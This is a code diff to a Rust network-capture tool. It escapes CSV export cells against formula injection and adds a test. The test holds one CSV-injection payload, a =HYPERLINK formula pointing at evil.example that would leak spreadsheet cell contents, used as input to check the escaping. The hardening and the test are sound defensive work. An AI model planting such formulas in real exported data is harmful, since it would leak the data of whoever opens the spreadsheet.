@@ -389,14 +389,15 @@ pub const CSV_HEADER: &[&str] = &[
     "community_id",
 ];
 
-/// CSV with a header (`--format csv`); times in RFC 3339 UTC.
+/// CSV with a header (`--format csv`); times in RFC 3339 UTC; cells defused
+/// ([`kuroko_model::csv_cell::defuse`]).
 pub fn csv(out: &mut dyn Write, hits: &[Hit], tz: &chrono_tz::Tz) -> std::io::Result<()> {
     let mut w = ::csv::Writer::from_writer(out);
     w.write_record(CSV_HEADER)?;
     for h in hits {
         let r = &h.record;
         let c = |col| cell(r, col, tz);
-        w.write_record([
+        let row = [
             r.start.to_rfc3339(),
             r.protocol.clone(),
             r.server.ip.to_string(),
@@ -417,7 +418,12 @@ pub fn csv(out: &mut dyn Write, hits: &[Hit], tz: &chrono_tz::Tz) -> std::io::Re
             r.id.clone(),
             r.captured_bytes.to_string(),
             r.community_id.clone(),
-        ])?;
+        ];
+        // Values came off the wire: no cell may reach a spreadsheet as a formula.
+        w.write_record(
+            row.iter()
+                .map(|v| kuroko_model::csv_cell::defuse(v).into_owned()),
+        )?;
     }
     w.flush()
 }
@@ -655,6 +661,35 @@ mod tests {
             "{text}"
         );
         assert!(text.lines().next().unwrap().contains("content type"));
+    }
+
+    #[test]
+    fn csv_cells_off_the_wire_never_arrive_as_formulas() {
+        let mut r = SessionRecord::new(
+            "s2".into(),
+            Timestamp(0),
+            "http",
+            Endpoint::new("10.0.0.1".parse().unwrap(), 40000),
+            Endpoint::new("10.0.0.2".parse().unwrap(), 80),
+        );
+        r.http = Some(kuroko_model::session::Http {
+            host: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into()),
+            ..Default::default()
+        });
+        let mut out = Vec::new();
+        csv(
+            &mut out,
+            &[Hit {
+                record: r,
+                packets_gone: false,
+            }],
+            &chrono_tz::UTC,
+        )
+        .unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let row = text.lines().nth(1).unwrap();
+        assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
+        assert!(row.contains("'=HYPERLINK("), "{row}");
     }
 
     #[test]
